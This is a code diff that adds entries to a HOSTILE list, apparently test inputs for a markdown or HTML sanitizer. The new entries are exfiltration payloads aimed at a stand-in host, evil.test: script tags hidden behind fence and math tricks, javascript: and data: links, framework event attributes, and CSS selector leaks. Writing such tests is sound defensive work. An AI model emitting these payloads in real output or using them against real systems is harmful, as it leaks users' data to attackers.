@@ -104,7 +104,11 @@ HOSTILE = [
     "<a href='mailto:{}?subject=a&amp;cc=evil@evil.test'>", "whatsapp:send?text={}", "magnet:?xt={}", "evil.рф/{}", "evil.рф:80/{}", "{}.рф", "evil.中国/{}",
     "evil.مصر/{}", "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$", "![x](https://evil.test/<b>{})", "![x](https://evil.test/?q=<{}>)", "[x]\n\n[x]: https://evil.test/<b>{}",
     "![x](https://evil.test/" + "y" * 3000 + "<b>{})", "![x](https://evil.test/<b>" + "y" * 3000 + "{})", "<a https://evil.test/>{}", '\\<a href="https://evil.test/">{}',
-    "<https://evil.test/>{}", "<img src=https://evil.test/>{}",
+    "<https://evil.test/>{}", "<img src=https://evil.test/>{}", "```\nx\r```\r<script>f('{}')</script>", "$$\n```\n$$\n<script>f('{}')</script>",
+    "---\n```\n---\n<script>f('{}')</script>", "[c](javascript:location='https://ok.test/{}'.replace('ok','evil'))", "[c](javascript:f('mailto:{}'))",
+    "javascript:f('mailto:{}')", "data:text/html,<img/src=https://ok.test/{}>", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
+    "<div v-on:click=\"f('{}')\">", "<div ng-init=\"f('{}')\">", "<div x-data=\"f('{}')\">", "<div hx-vals='{}' hx-get='https://evil.test/'>",
+    "<style>p[data-n^='A']{{background:url(https://evil.test/A)}}</style><p data-n='{}'>", "<link href='//evil.test' rel=stylesheet><p title='{}'>",
 ]  # fmt: skip
 
 
